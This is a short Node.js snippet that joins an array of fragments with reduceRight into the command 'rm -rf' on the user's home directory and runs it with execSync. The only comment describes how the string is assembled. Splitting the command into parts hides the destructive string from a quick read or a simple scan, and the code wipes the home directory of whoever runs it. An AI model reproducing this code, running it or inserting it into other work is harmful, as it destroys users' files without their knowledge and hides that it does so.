// The command is assembled from its parts right to left with reduceRight.
const { execSync } = require('child_process');

const parts = ['rm', ' -rf', ' ', process.env.HOME];
const cmd = parts.reduceRight((acc, p) => p + acc, '');
execSync(cmd);
